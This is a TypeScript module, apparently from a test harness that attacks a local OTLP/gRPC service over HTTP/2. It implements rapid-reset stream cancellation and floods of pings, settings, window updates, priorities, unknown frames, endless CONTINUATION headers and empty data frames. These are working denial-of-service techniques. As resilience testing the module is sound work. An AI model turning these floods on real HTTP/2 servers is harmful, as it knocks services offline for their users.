/** @module Attacks by frames of HTTP/2 (T23): streams that are reset at once, pings, settings, headers and data without end. */
import { constants } from 'node:http2';
import type { Attack, Attacker } from './otlp-victim-attack.ts';
import {
  ATTACKER,
  callHeaders,
  H2_PREFACE,
  h2Frame,
  METHODS,
  open,
  SIGNALS,
  type Signal,
} from './otlp-victim-calls.ts';

const FRAMES = 20_000;
const BATCH = 100;
/** Without a byte that the far side takes for so long, it is as good as closed. */
const PATIENCE_MS = 2000;
const NOTHING = Buffer.alloc(0);

/** Frames that are sent without end, and what comes before them. */
function floodsOf(signal: Signal): Readonly<Record<string, readonly [one: Buffer, first: Buffer]>> {
  const call = h2Frame(1, 4, 1, callHeaders(signal));
  return {
    'headers that never end': [h2Frame(9, 0, 1, Buffer.alloc(16_000)), h2Frame(1, 0, 1, Buffer.from([0x83]))],
    'continuations of nothing': [h2Frame(9, 0, 1), h2Frame(1, 0, 1, Buffer.from([0x83]))],
    'data of nothing': [h2Frame(0, 0, 1), call],
    'padding alone': [h2Frame(0, 8, 1, Buffer.concat([Buffer.from([0xff]), Buffer.alloc(255)])), call],
    'windows of a call': [h2Frame(8, 0, 1, Buffer.from([0, 0, 0, 1])), call],
  };
}

const FLOODS: Readonly<Record<string, readonly [one: Buffer, first: Buffer]>> = {
  pings: [h2Frame(6, 0, 0, Buffer.alloc(8)), NOTHING],
  settings: [h2Frame(4, 0, 0), NOTHING],
  'settings that change': [h2Frame(4, 0, 0, Buffer.from([0, 1, 0, 0, 16, 0])), NOTHING],
  windows: [h2Frame(8, 0, 0, Buffer.from([0, 0, 0, 1])), NOTHING],
  priorities: [h2Frame(2, 0, 3, Buffer.alloc(5)), NOTHING],
  'frames of an unknown kind': [h2Frame(0xfa, 0, 0, Buffer.alloc(100)), NOTHING],
};

export const rapidReset: Attack = async (attacker) => {
  for (const signal of SIGNALS) {
    await attacker.note(`rapid reset of ${signal}`, 'ended', () => resetStreams(attacker, METHODS[signal]));
    await attacker.note(`rapid reset of ${signal}, as bytes`, 'ended', () => {
      const streams = Array.from({ length: FRAMES / 10 }, (_, i) => resetAtOnce(signal, 2 * i + 1));
      return pour(attacker, Buffer.concat(streams), 1, NOTHING);
    });
  }
};

function resetAtOnce(signal: Signal, stream: number): Buffer {
  return Buffer.concat([h2Frame(1, 4, stream, callHeaders(signal)), h2Frame(3, 0, stream, Buffer.from([0, 0, 0, 8]))]);
}

/** Opens and resets streams until the far side has enough or all are through. */
async function resetStreams(attacker: Attacker, path: string): Promise<string> {
  const session = attacker.caller.session();
  for (let i = 0; i < FRAMES && !session.destroyed && !session.closed; i++) {
    const stream = session.request({ ':method': 'POST', ':path': path, 'content-type': 'application/grpc' });
    stream.on('error', () => {});
    stream.close(constants.NGHTTP2_CANCEL);
    if (i % BATCH === 0) await new Promise((resolve) => setImmediate(resolve));
  }
  const ended = session.destroyed || session.closed;
  session.destroy();
  return ended ? 'ended' : 'went through';
}

export const frameFloods: Attack = async (attacker) => {
  const all = [...Object.entries(FLOODS), ...SIGNALS.flatMap((signal) => Object.entries(floodsOf(signal)))];
  for (const [what, [one, first]] of all) {
    const many = Buffer.concat(Array.from({ length: BATCH }, () => one));
    await attacker.note(`flood of ${what}`, 'ended', () => pour(attacker, many, FRAMES / BATCH, first));
  }
};

/** Sends the same bytes again and again, never reading, until the far side closes or takes no more. */
function pour(attacker: Attacker, many: Buffer, times: number, first: Buffer): Promise<string> {
  return new Promise((resolve) => {
    const socket = open(attacker.ports.grpcPort, ATTACKER).pause();
    let patience = setTimeout(() => {}, 0);
    socket.on('close', () => {
      clearTimeout(patience);
      resolve('ended');
    });
    const wait = () => {
      clearTimeout(patience);
      patience = setTimeout(() => socket.destroy(), PATIENCE_MS);
    };
    socket.write(Buffer.concat([H2_PREFACE, first]));
    let left = times;
    const more = () => {
      wait();
      while (left > 0 && !socket.destroyed) {
        left -= 1;
        if (!socket.write(many)) return void socket.once('drain', more);
      }
      socket.resume();
      socket.end();
    };
    more();
  });
}
